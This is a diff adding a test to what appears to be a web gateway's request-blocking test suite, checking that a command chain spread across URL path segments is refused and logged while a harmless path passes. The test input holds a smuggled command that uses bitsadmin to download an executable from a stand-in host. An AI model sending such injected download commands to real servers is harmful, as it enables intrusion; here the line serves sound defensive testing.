@@ -141,6 +141,26 @@ def test_jndi_in_arbitrary_x_header_is_refused(blocking: GatewayProcess, upstrea
     assert len(hit["snippet"]) <= 40
 
 
+def test_command_spanning_path_segments_is_refused(blocking: GatewayProcess, upstream: Upstream) -> None:
+    """A command chain placed in a path segment keeps its own slashes (the target parser
+    refuses an encoded one), so it spans segments; it is refused as it would be in a query
+    value, with the path from its first segment named in the log; an ordinary path with
+    the same words passes."""
+    reply = get(blocking, "/files/seg1/;%20bitsadmin%20/transfer%20j%20http://files.example.net/a.exe")
+    assert reply.status == 403
+    assert not any("seg1" in t for t in upstream.targets())
+    record = blocking.wait_for_access_record(
+        lambda r: (
+            r.get("status") == 403
+            and any(h["location"] == "path:2.." for h in r.get("detection", {}).get("hits", []))
+        )
+    )
+    assert record["detection"]["category"] == "cmdi"
+    ok = "/files/seg2/bitsadmin/transfer/report.pdf"
+    assert get(blocking, ok).status == 200
+    assert ok in upstream.targets()
+
+
 def test_benign_apostrophe_passes(blocking: GatewayProcess, upstream: Upstream) -> None:
     """A name with an apostrophe (O'Brien) and prose with SQL words reach the upstream unchanged."""
     target = "/people?marker=benign1&name=O%27Brien&note=select+a+union+rep"
